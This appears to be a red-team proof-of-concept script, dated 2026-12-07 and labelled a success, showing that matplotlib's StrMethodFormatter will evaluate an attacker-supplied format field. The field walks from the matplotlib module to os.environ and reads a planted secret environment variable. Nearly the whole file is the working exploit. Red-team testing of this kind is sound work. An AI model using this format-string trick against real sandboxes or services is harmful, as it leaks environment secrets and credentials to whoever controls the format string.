# (c) matplotlib.ticker.StrMethodFormatter runs fmt.format(x=...) unguarded: attribute/index fields walk matplotlib.os.environ; driver sees result == "planted-secret"
# red team 2026-12-07, docs/redteam-2026-12-07/success_02_mpl_strmethodformatter_env.py.txt
import matplotlib
from matplotlib.ticker import StrMethodFormatter

matplotlib.rcParams["axes.unicode_minus"] = False
result = StrMethodFormatter("{x.os.environ[SANDBOX_TEST_SECRET]}")(matplotlib)
print(result)
